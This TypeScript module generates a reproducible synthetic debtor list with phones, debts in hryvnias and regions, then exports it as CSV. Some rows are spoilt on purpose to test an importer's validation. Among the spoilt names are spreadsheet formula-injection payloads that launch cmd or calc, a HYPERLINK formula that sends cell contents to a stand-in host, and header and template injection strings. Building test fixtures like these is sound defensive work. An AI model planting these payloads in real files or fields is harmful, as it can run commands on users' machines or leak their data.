import type { Language } from '../core/contact.ts';
import { NAMES } from './example-names.ts';

/** Chance that repeats: mulberry32 (T. Ettinger's public-domain generator of 32 bits). */
export class Dice {
  #state: number;

  constructor(seed: number) {
    this.#state = seed >>> 0;
  }

  /** In [0, 1). */
  next(): number {
    this.#state = (this.#state + 0x6d2b79f5) >>> 0;
    let t = Math.imul(this.#state ^ (this.#state >>> 15), this.#state | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 2 ** 32;
  }

  whole(from: number, to: number): number {
    return from + Math.floor(this.next() * (to - from + 1));
  }

  one<T>(of: readonly T[]): T {
    return of[this.whole(0, of.length - 1)]!;
  }

  chance(share: number): boolean {
    return this.next() < share;
  }

  /** By the normal distribution (Box and Muller, 1958). */
  normal(): number {
    return Math.sqrt(-2 * Math.log(1 - this.next())) * Math.cos(2 * Math.PI * this.next());
  }
}

/** What examples/november-debt was made with. */
export const EXAMPLE_ROWS = 5000;
export const EXAMPLE_SEED = 20261102;

export const COLUMNS = ['account_id', 'name', 'phones', 'debt', 'currency', 'due_date', 'language', 'timezone', 'region'] as const;
export type ListRow = Record<(typeof COLUMNS)[number], string>;

interface Land {
  readonly share: number;
  readonly timezone: string;
  readonly languages: readonly (readonly [Language, number])[];
  readonly regions: readonly string[];
  /** Mobile prefixes of the national plan; the numbers behind them begin with 00, which carriers hand out last. */
  readonly prefixes: readonly string[];
  readonly callingCode: string;
  readonly spell: (dice: Dice, national: string) => string;
}

const pairs = (digits: string): string => `${digits.slice(0, 2)} ${digits.slice(2, 5)} ${digits.slice(5, 7)} ${digits.slice(7)}`;

const LANDS: readonly Land[] = [
  {
    share: 0.72,
    timezone: 'Europe/Kyiv',
    languages: [['uk', 0.8], ['ru', 0.17], ['en', 0.03]],
    regions: ['Київ', 'Київська', 'Львівська', 'Одеська', 'Харківська', 'Дніпропетровська', 'Вінницька', 'Полтавська', 'Черкаська', 'Волинська', 'Івано-Франківська', 'Тернопільська'],
    prefixes: ['50', '63', '66', '67', '68', '73', '93', '95', '96', '97', '98', '99'],
    callingCode: '380',
    spell(dice, national) {
      const tail = `${national.slice(2, 5)}-${national.slice(5, 7)}-${national.slice(7)}`;
      return dice.one([`+380${national}`, `+380${national}`, `+380${national}`, `380${national}`, `0${national}`, `0${national}`, `+380 ${pairs(national)}`, `(0${national.slice(0, 2)}) ${tail}`, `0${national.slice(0, 2)} ${tail}`, `+38 (0${national.slice(0, 2)}) ${tail}`, `00380${national}`]);
    },
  },
  {
    share: 0.12,
    timezone: 'Europe/Warsaw',
    languages: [['uk', 0.55], ['en', 0.35], ['ru', 0.1]],
    regions: ['Mazowieckie', 'Małopolskie', 'Lubelskie', 'Podkarpackie', 'Dolnośląskie'],
    prefixes: ['500', '501', '502', '505', '510', '512', '600', '601', '602', '605', '660', '690'],
    callingCode: '48',
    spell: (dice, national) => dice.one([`+48${national}`, `+48${national}`, `+48 ${national.slice(0, 3)} ${national.slice(3, 6)} ${national.slice(6)}`, `0048${national}`, `+48 ${national.slice(0, 3)}-${national.slice(3, 6)}-${national.slice(6)}`]),
  },
  {
    share: 0.16,
    timezone: 'Asia/Almaty',
    languages: [['ru', 0.82], ['en', 0.12], ['uk', 0.06]],
    regions: ['Алматы', 'Астана', 'Алматинская', 'Карагандинская', 'Жамбылская'],
    prefixes: ['700', '701', '702', '705', '707', '708'],
    callingCode: '7',
    spell: (dice, national) => dice.one([`+7${national}`, `+7${national}`, `+7 (${national.slice(0, 3)}) ${national.slice(3, 6)}-${national.slice(6, 8)}-${national.slice(8)}`, `+7 ${national.slice(0, 3)} ${national.slice(3, 6)} ${national.slice(6)}`]),
  },
];

function drawn<T>(dice: Dice, weights: readonly (readonly [T, number])[]): T {
  let left = dice.next() * weights.reduce((sum, [, weight]) => sum + weight, 0);
  for (const [value, weight] of weights) if ((left -= weight) < 0) return value;
  return weights.at(-1)![0];
}

function nameOf(dice: Dice, language: Language): string {
  const { men, women, families, patronymics } = NAMES[language];
  const woman = dice.chance(0.55);
  const form = (pair: string): string => pair.split('/')[woman ? 1 : 0] ?? pair.split('/')[0]!;
  const given = dice.one(woman ? women : men);
  const family = form(dice.one(families));
  if (language === 'en') return `${given} ${family}`;
  return dice.chance(0.4) ? `${family} ${given} ${form(dice.one(patronymics))}` : `${given} ${family}`;
}

/** Makes phones of one land, no number twice. */
class Phones {
  readonly #taken = new Set<string>();

  national(dice: Dice, land: Land): string {
    const length = { '380': 9, '48': 9, '7': 10 }[land.callingCode]!;
    for (;;) {
      const prefix = dice.one(land.prefixes);
      const room = length - prefix.length - 2;
      const national = `${prefix}00${String(dice.whole(0, 10 ** room - 1)).padStart(room, '0')}`;
      const e164 = land.callingCode + national;
      if (this.#taken.has(e164)) continue;
      this.#taken.add(e164);
      return national;
    }
  }
}

/** Hryvnias: half of the debts under 900, a tail into the tens of thousands. */
function debtOf(dice: Dice): string {
  const amount = Math.min(80_000, Math.max(35, Math.exp(Math.log(900) + dice.normal() * 0.9)));
  const text = amount.toFixed(2);
  if (dice.chance(0.06)) return text.replace('.', ',');
  if (amount >= 1000 && dice.chance(0.08)) return text.replace(/\B(?=(\d{3})+\.)/, ' ').replace('.', ',');
  return dice.chance(0.05) ? String(Math.round(amount)) : text;
}

function dueDateOf(dice: Dice): string {
  const day = String(dice.one([5, 10, 15, 20, 25])).padStart(2, '0');
  return dice.chance(0.1) ? `${day}.10.2026` : `2026-10-${day}`;
}

function goodRow(dice: Dice, phones: Phones, index: number): ListRow {
  const land = drawn(dice, LANDS.map((each) => [each, each.share] as const));
  const language = drawn(dice, land.languages);
  const count = drawn(dice, [[1, 0.68], [2, 0.25], [3, 0.07]]);
  const numbers = Array.from({ length: count }, () => land.spell(dice, phones.national(dice, land)));
  return {
    account_id: `${dice.whole(1, 24).toString().padStart(2, '0')}-${String(100_000 + index * 7 + dice.whole(0, 6))}`,
    name: nameOf(dice, language),
    phones: numbers.join(dice.chance(0.3) ? '; ' : ';'),
    debt: debtOf(dice),
    currency: 'UAH',
    due_date: dueDateOf(dice),
    language: dice.chance(0.07) && language === 'uk' ? '' : language,
    timezone: dice.chance(0.3) ? '' : land.timezone,
    region: dice.one(land.regions),
  };
}

/** What goes wrong in real lists, and how often in this one. Some rows are refused, some mended. */
const MESS: readonly { readonly what: string; readonly rows: number; readonly spoil: (dice: Dice, row: ListRow, rows: readonly ListRow[]) => void }[] = [
  { what: 'no good phone', rows: 40, spoil: (dice, row) => (row.phones = dice.one(['12345', 'немає', 'n/a', '067', '+38067', '0000000000', '+380670', 'тел. змінено', '+999123456789', '0441', '-', ''])) },
  { what: 'one bad phone beside a good one', rows: 15, spoil: (dice, row) => (row.phones = `${row.phones.split(';')[0]!};${dice.one(['067 12', '111', 'робочий', '+38000'])}`) },
  { what: 'a phone shortened by a spreadsheet', rows: 25, spoil: (dice, row) => (row.phones = dice.one(['3.80671E+11', '3.8067E+11', '3,80671E+11', '3.80501E+11'])) },
  { what: 'no debt', rows: 20, spoil: (_, row) => (row.debt = '') },
  { what: 'a debt below zero', rows: 15, spoil: (_, row) => (row.debt = `-${row.debt}`) },
  { what: 'a debt in words', rows: 10, spoil: (dice, row) => (row.debt = dice.one(['борг', 'n/a', 'сплачено', '#REF!', '12 грн 50', 'about 300'])) },
  { what: 'an account that is there already', rows: 25, spoil: (dice, row, rows) => (row.account_id = dice.one(rows).account_id) },
  { what: 'an unknown timezone', rows: 15, spoil: (dice, row) => (row.timezone = dice.one(['Europe/Kiyv', 'GMT+25', 'Київ', 'Europe/Warszawa', '+2'])) },
  { what: 'no name', rows: 12, spoil: (dice, row) => (row.name = dice.one(['', ' ', '   '])) },
  { what: 'line breaks in the name', rows: 8, spoil: (dice, row) => (row.name = row.name.replace(' ', dice.one(['\r\n', '\n', '\r\nX-Injected: 1\r\n', '\n\napi hupall\n\n']))) },
  { what: 'a formula for a name', rows: 8, spoil: (dice, row) => (row.name = dice.one(['=HYPERLINK("http://example.invalid/?"&A1,"Відкрити")', '+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '{{debt}} ${uuid_kill}'])) },
  { what: 'a date that is none', rows: 7, spoil: (dice, row) => (row.due_date = dice.one(['31.11.2026', '2026-02-30', 'листопад', '10/32/2026'])) },
];

/** A debtor list as billing would export it: `count` rows, of which about 4 % are spoilt, the same for the same seed. */
export function exampleList(count: number, seed: number): ListRow[] {
  const dice = new Dice(seed);
  const phones = new Phones();
  const rows = Array.from({ length: count }, (_, index) => goodRow(dice, phones, index));
  const spoilt = new Set<number>();
  for (const { rows: of5000, spoil } of MESS) {
    for (let left = Math.round((of5000 * count) / 5000); left > 0; left--) {
      let index = dice.whole(Math.floor(count / 10), count - 1);
      while (spoilt.has(index)) index = dice.whole(Math.floor(count / 10), count - 1);
      spoilt.add(index);
      // Accounts that stand twice take the id of an earlier row, from the part that is never spoilt.
      spoil(dice, rows[index]!, rows.slice(0, Math.floor(count / 10)));
    }
  }
  return rows;
}

/** RFC 4180, with LF. */
export function csvOf(rows: readonly ListRow[]): string {
  const cell = (value: string): string => (/[",;\r\n]/.test(value) ? `"${value.replaceAll('"', '""')}"` : value);
  return [COLUMNS.join(','), ...rows.map((row) => COLUMNS.map((column) => cell(row[column])).join(','))].join('\n') + '\n';
}
